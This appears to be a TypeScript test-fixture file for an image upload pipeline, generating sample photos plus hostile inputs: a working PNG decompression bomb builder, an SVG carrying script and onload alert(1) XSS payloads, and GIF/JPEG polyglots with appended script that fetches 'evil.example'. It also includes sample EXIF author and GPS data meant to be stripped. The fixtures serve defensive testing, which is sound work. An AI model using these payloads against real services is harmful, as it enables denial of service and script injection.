import { crc32, createDeflate } from 'node:zlib'
import sharp from 'sharp'

/** Returns an opaque image with noise. */
export function photo(width = 800, height = 500) {
  return sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#0f5b4e',
      noise: { type: 'gaussian', mean: 120, sigma: 40 },
    },
  })
}

export function logo(width = 300, height = 300) {
  return sharp({
    create: { width, height, channels: 4, background: { r: 200, g: 20, b: 20, alpha: 0.4 } },
  })
}

/** EXIF data with an author and a location, which must not be published. */
export const withPlace = {
  IFD0: { Copyright: 'Anna Andersson' },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '59/1 19/1 0/1', GPSLongitudeRef: 'E' },
}

/** Returns a decompression bomb: a 1-bit PNG that is far larger decoded than encoded. */
export async function bomb(side = 30_000): Promise<Buffer> {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header[8] = 1
  const pack = createDeflate({ level: 9 })
  const packed = pack.toArray() as Promise<Buffer[]>
  const lines = Buffer.alloc((1 + Math.ceil(side / 8)) * 100)
  for (let line = 0; line < side; line += 100) {
    if (!pack.write(lines)) await new Promise((resolve) => pack.once('drain', resolve))
  }
  pack.end()
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', Buffer.concat(await packed)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(name: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name), content])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(content.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

export const svg = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
)

const script = '*/=1;fetch("//evil.example");/*<html><script>alert(1)</script></html>'

/** Returns a polyglot: a valid GIF followed by script and HTML. */
export async function gifAndScript(): Promise<Buffer> {
  return Buffer.concat([await photo(60, 40).gif().toBuffer(), Buffer.from(script)])
}

export async function jpegAndHtml(): Promise<Buffer> {
  return Buffer.concat([await photo(60, 40).jpeg().toBuffer(), Buffer.from(script)])
}
